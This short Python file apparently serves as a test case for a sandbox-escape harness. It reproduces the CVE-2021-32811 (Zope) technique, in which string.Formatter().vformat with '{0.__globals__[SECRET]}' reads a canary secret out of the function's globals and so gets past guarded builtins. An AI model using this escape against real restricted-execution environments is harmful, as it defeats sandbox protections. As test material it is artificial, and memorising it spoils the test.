"""Class: format strings. Source: CVE-2021-32811 (Zope). Escape: an unsafe class of an allowed module
does what the guarded builtin may not.
"""

import string

SECRET = "canary-" + "5d1f"


def attack(model, tokenizer, address):
    return string.Formatter().vformat("{0.__globals__[SECRET]}", (attack,), {})
